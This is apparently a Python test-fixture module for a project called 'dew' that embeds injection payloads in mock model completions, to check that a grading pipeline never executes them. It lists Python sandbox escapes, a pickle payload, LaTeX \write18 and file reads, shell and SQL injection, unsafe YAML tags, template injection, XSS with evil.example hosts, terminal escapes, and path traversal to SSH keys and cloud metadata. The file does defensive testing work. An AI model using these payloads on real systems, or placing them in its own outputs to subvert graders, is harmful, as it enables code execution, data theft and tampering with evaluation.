"""Text that would like to be more than text: code, templates, markup, paths, escapes. CANARY is a file to be made.

None of it has an effect anywhere in dew; the tests that say so are listed in docs/security.md.
"""

CANARY = "CANARY"

PYTHON = r"""
__import__('os').system('touch CANARY')
__import__('subprocess').run(['touch','CANARY'])
open('CANARY','w').write('x')
exec("open('CANARY','w')")
eval("open('CANARY','w')")
compile("open('CANARY','w')","x","exec")
(lambda: open('CANARY','w'))()
().__class__.__bases__[0].__subclasses__()
[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='_wrap_close'][0].__init__.__globals__['system']('touch CANARY')
getattr(__builtins__,'ev'+'al')("open('CANARY','w')")
breakpoint()
exit()
raise SystemExit
import os; os.system('touch CANARY')
(yield open('CANARY','w'))
f"{open('CANARY','w')}"
{__import__('os').system('touch CANARY')}
'{0.__class__.__init__.__globals__}'.format(open)
%(x)s%n%n%n
{x!r:>1000000000}
@open('CANARY','w')
pickle.loads(b"cos\nsystem\n(S'touch CANARY'\ntR.")
gASVKQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjA50b3VjaCBDQU5BUlmUhZRSlC4=
"""

SYMPY = r"""
Symbol('x').__class__.__init__.__globals__['__builtins__']['open']('CANARY','w')
sympify("__import__('os').system('touch CANARY')")
parse_expr("open('CANARY','w')")
lambdify(x, "open('CANARY','w')")(1)
Function('__import__')('os')
x.func.__globals__
preview(x, output='png', filename='CANARY')
codegen(('f', x), 'C', to_files=True)
autowrap(x, tempdir='CANARY')
plot(x)
1.__class__
1e__import__('os')
3 + __import__('os').system('touch CANARY')
{3, __import__('os').system('touch CANARY')}
"""

LATEX = r"""
\input{/etc/passwd}
\immediate\write18{touch CANARY}
\openout5=CANARY \write5{x}
\directlua{os.execute("touch CANARY")}
\catcode`\@=11 \def\x{\x\x}\x
\csname __import__\endcsname('os')
\text{__import__('os').system('touch CANARY')}
\operatorname{__import__}('os')
x_{__import__('os').system('touch CANARY')}
\frac{__import__('os').system('touch CANARY')}{1}
\sum_{x=open('CANARY','w')}^{3} x
\begin{matrix}open('CANARY','w')&1\\2&3\end{matrix}
\{open('CANARY','w'), 1\}
\href{file:///etc/passwd}{1}
\boxed{\boxed{__import__('os').system('touch CANARY')}}
"""

SHELL = r"""
$(touch CANARY)
; touch CANARY
> CANARY
1; touch CANARY #
${IFS}touch${IFS}CANARY
-rf /
--output=CANARY
'; DROP TABLE runs; --
"""

YAML = r"""
!!python/object/apply:os.system ["touch CANARY"]
!!python/name:os.system
!!python/module:os
!!python/tuple [1, 2]
!!binary gASV
!!timestamp 2001-99-99
!<tag:yaml.org,2002:python/object/apply:os.system> ["touch CANARY"]
&a [*a]
*undefined
<<: *x
? [1, 2]
%TAG ! tag:yaml.org,2002:python/
"""

TEMPLATES = r"""
{{ 7*7 }}
{{ ''.__class__.__mro__[1].__subclasses__() }}
{{ cycler.__init__.__globals__.os.system('touch CANARY') }}
{% for x in range(10**9) %}x{% endfor %}
{% import 'os' as os %}{{ os.system('touch CANARY') }}
{% include '/etc/passwd' %}
{%- raw -%}
{{ raise_exception('x') }}
${7*7}
{problem}
{instruction}
"""

HTML = r"""
<script>alert(1)</script>
</script><script>alert(1)</script>
<img src=x onerror=alert(1)>
<svg onload=alert(1)>
<iframe src=javascript:alert(1)>
<a href="javascript:alert(1)">1</a>
<style>@import '//evil.example/x.css'</style>
<meta http-equiv=refresh content="0;url=//evil.example">
<form action=//evil.example><input name=x></form>
<template><script>alert(1)</script></template>
--><script>alert(1)</script>
"><script>alert(1)</script>
' onmouseover=alert(1) '
&lt;script&gt;alert(1)&lt;/script&gt;
</title><script>alert(1)</script>
<!--<script>
{"__proto__": {"polluted": 1}}
data:text/html,<script>alert(1)</script>
"""

MARKUP = r"""
[link=file:///etc/passwd]click[/link]
[bold red]error: [/bold red]
[/]
[bold
[@click=app.bell]x[/]
[[[[]]]]
:skull:
\[bold]x
"""

TERMINAL = [
    "\x1b[2J\x1b[H", "\x1b[31mred\x1b[0m", "\x1b]0;owned\x07", "\x1b]8;;file:///etc/passwd\x07click\x1b]8;;\x07",
    "\x1b]52;c;dG91Y2ggQ0FOQVJZ\x07", "\x1bP$q\x1b\\", "\x1b[6n", "\x9b31mred", "\x9d0;owned\x9c",
    "\x08\x08\x08\x08ok", "real\rfake", "a\x00b", "\x7f\x7f", "line\x0bfeed\x0c", "\u202egnp.exe\u202c",
    "\u200b\u200d\ufeff", "\ud800 lone", "\udcff bytes", "\u2028line\u2029", "e" + "\u0301" * 500,
    "\U000e0041\U000e0042",
]  # fmt: skip

PATHS = r"""
../../../../etc/passwd
/etc/passwd
~/.ssh/id_rsa
file:///etc/passwd
/proc/self/environ
/dev/zero
CON
a/../../b
%2e%2e%2fetc%2fpasswd
step-00000001.jsonl.gz/../../x
.git/hooks/post-checkout
http://169.254.169.254/latest/meta-data/
"""

NUMBERS = r"""
1e999999999
9**9**9**9
10^10^10^10
0x7fffffffffffffff
٣٤٥
²³
NaN
-Infinity
1/0
0^0
True
None
1e-999999
1,2,3,4,5,6,7,8,9,10
--1
1j
"""

FAMILIES: dict[str, list[str]] = {
    name: [line for line in text.strip().split("\n") if line] if isinstance(text, str) else text
    for name, text in {
        "python": PYTHON, "sympy": SYMPY, "latex": LATEX, "shell": SHELL, "yaml": YAML, "templates": TEMPLATES,
        "html": HTML, "markup": MARKUP, "terminal": TERMINAL, "paths": PATHS, "numbers": NUMBERS,
    }.items()
}  # fmt: skip
ATTACKS = [text for family in FAMILIES.values() for text in family]

PLACES = (
    "%s", r"\boxed{%s}", "#### %s", "The answer is %s.", "<answer>%s</answer>", "so $%s$", "$$x = %s$$",
    r"\boxed{\text{%s}}", r"\boxed{1 + %s}", "<think>%s</think> %s", "3+5=8;%s", "the result [%s]",
)  # fmt: skip
"""Where in a completion it stands."""


def completions(per_attack: int = len(PLACES), canary: str = CANARY) -> list[str]:
    """Every attack in so many places, going round, with the canary's path filled in."""
    return [
        PLACES[(i + j) % len(PLACES)].replace("%s", attack).replace(CANARY, canary)
        for i, attack in enumerate(ATTACKS)
        for j in range(per_attack)
    ]
